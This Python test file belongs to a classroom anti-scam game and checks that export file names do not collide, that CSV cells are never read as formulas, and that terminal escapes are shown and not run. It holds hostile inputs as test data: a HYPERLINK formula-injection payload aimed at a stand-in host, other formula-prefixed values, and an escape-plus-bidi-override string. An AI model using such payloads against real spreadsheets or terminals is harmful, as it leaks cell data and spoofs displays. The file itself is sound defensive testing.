"""Issue #15, cases 1, 2 and 4 for the class's results: export file names
never collide, each export counts once by its own identity, CSV cells are
never run as formulas, and names, classes and file names from exports are
never printed raw."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from game.cli import main
from game.results.figures import collect

from ..store.helpers import FIXTURE_SCENARIOS, ROOT

FIX = ["--scenarios", str(FIXTURE_SCENARIOS)]
LONG_CLASS = "实验小学四年级一班" * 3  # 27 characters: with a long name, more than a file name keeps


def _played(name: str, class_name: str | None = None) -> None:
    extra = ["--class", class_name] if class_name else []
    assert main(["play", "tfx-type-2", *FIX, "--choices", "2", "--profile", name, *extra]) == 0


def test_names_that_make_the_same_file_name_never_overwrite_each_other(tmp_path, capsys):
    """`Li Ming`, `Li_Ming` and `Li/Ming` all become `Li_Ming`; two long
    names in a long class are cut to the same 60 characters. Five profiles
    used to give two files, and the report counted two pupils."""
    for name in ("Li Ming", "Li_Ming", "Li/Ming"):
        _played(name)
    for name in ("王小明" * 10 + "甲", "王小明" * 10 + "乙"):
        _played(name, LONG_CLASS)
    capsys.readouterr()
    out = tmp_path / "exports"
    assert main(["export", *FIX, "--all", "--out", str(out)]) == 0
    capsys.readouterr()
    files = sorted(p.name for p in out.iterdir())
    assert len(files) == 5, files
    assert len({f.casefold() for f in files}) == 5
    assert all(f.count("Li_Ming") <= 1 for f in files)
    got = collect([out])
    assert len(got.students) == 5 and got.duplicates == [] and got.same_name == []
    assert main(["report", str(out), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["students"] == 5


def _export(folder, file: str, name: str, class_name: str, uid: str, gain: bool = False) -> None:
    sitting = lambda form, right: {  # noqa: E731
        "form": form, "complete": True, "finished": "2025-01-02T00:00:00+00:00",
        "answers": [{"item": f"{form}{i:02}", "is_scam": True, "said_scam": i < right, "rule": "six-1"} for i in range(10)],
    }
    doc = {
        "format": "fanzha-results/1", "exported": "2025-01-03T00:00:00+00:00", "game_version": "0.1.0",
        "student": {"uid": uid, "name": name, "class": class_name}, "scenarios": [],
        "checks": {"before": sitting("A", 8), "after": sitting("B", 5 if gain else 8)},
        "rules_collected": [], "badges": [],
    }
    (folder / file).write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def test_csv_cells_are_never_formulas_and_the_report_says_so(tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    _export(folder, "a.json", '=HYPERLINK("http://x.example/?"&A1,"点我")', "+四(1)班", "@uid1", gain=True)
    _export(folder, "b.json", "-2+3", "\t四(1)班", "uid2")
    _export(folder, "c.json", "＝1+1", "四(1)班", "uid3")
    _export(folder, "d.json", "小明", "四(1)班", "uid4")
    out = tmp_path / "学生.csv"
    assert main(["report", str(folder), "--csv", str(out), "--json"]) == 0
    err = capsys.readouterr().err
    assert "加了一个单引号" in err and "5 个格子" in err  # the tab is shown as 〔U+0009〕 already
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    header, body = rows[0], rows[1:]
    formula_start = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    for row in body:
        for name, value in zip(header, row):
            if name in ("班级", "姓名", "编号", "文件"):
                assert not value.startswith(formula_start), (name, value)
    by_uid = {row[header.index("编号")]: row for row in body}
    assert by_uid["'@uid1"][header.index("姓名")].startswith("'=HYPERLINK")
    assert by_uid["uid4"][header.index("姓名")] == "小明"  # nothing else changes
    # Numbers the report computed stay numbers, a negative gain too.
    assert by_uid["'@uid1"][header.index("提升")] == "-0.3000"


NASTY = "\x1b]0;pwned\x07\u202e"


def test_names_classes_and_file_names_from_exports_are_shown_not_obeyed(tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    _export(folder, f"x{NASTY}.json", f"小明{NASTY}", f"四(1)班{NASTY}", f"u{NASTY}")
    _export(folder, f"y{NASTY}.json", f"小明{NASTY}", f"四(1)班{NASTY}", "u2")  # the same name, another profile
    (folder / f"broken{NASTY}.json").write_text("{", encoding="utf-8")
    for extra in ([], ["--json"]):
        assert main(["report", str(folder), *extra, "--html", str(tmp_path / "r.html")]) == 0
        captured = capsys.readouterr()
        for ch in ("\x1b", "\x07", "\u202e"):
            assert ch not in captured.out and ch not in captured.err, (extra, ch)
        assert "〔U+202E〕" in captured.out + captured.err
        assert "2 份不同档案" in captured.err
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "\x1b" not in page and "\u202e" not in page and "〔U+001B〕" in page


@pytest.mark.skipif(sys.platform == "win32", reason="the C locale is a POSIX thing")
def test_export_all_with_a_chinese_name_under_the_c_locale(tmp_path, fanzha_home):
    _played("李明")
    env = dict(os.environ, PYTHONPATH=str(ROOT), LANG="C", LC_ALL="C", PYTHONUTF8="0", FANZHA_HOME=str(fanzha_home))
    env.pop("PYTHONIOENCODING", None)
    proc = subprocess.run(
        [sys.executable, "-m", "game", "export", *FIX, "--all", "--out", str(tmp_path / "out")],
        env=env, capture_output=True, stdin=subprocess.DEVNULL, timeout=120,
    )
    assert b"Traceback" not in proc.stderr, proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 0
    (written,) = (tmp_path / "out").iterdir()
    assert written.name.startswith("fanzha-") and written.name.isascii()
    assert collect([tmp_path / "out"]).students[0].name == "李明"
